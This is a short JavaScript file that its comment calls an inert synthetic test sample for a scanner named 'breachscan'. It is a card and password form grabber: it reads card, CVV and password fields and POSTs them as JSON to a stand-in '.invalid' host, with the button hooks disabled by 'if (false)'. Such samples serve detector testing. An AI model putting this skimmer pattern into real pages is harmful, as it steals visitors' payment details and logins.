/* synthetic test sample for breachscan: site-agnostic form grabber shape - finds card and
 * password fields with attribute-substring selectors, hooks buttons, posts JSON to a
 * hard-coded URL. Inert (`if (false)`, .invalid host). */
var wanted = ["input[name*='card']", "input[id*='cvv']", "input[type*='password']"];
function grab() {
  var d = {};
  wanted.forEach(function (s) { var e = document.querySelector(s); if (e) d[s] = e.value; });
  var x = new XMLHttpRequest();
  x.open("POST", "https://cdn-forms.invalid/c");
  x.setRequestHeader("Content-Type", "application/json");
  x.send(JSON.stringify(d));
}
if (false) {
  document.querySelectorAll("button").forEach(function (b) { b.addEventListener("click", grab); });
}
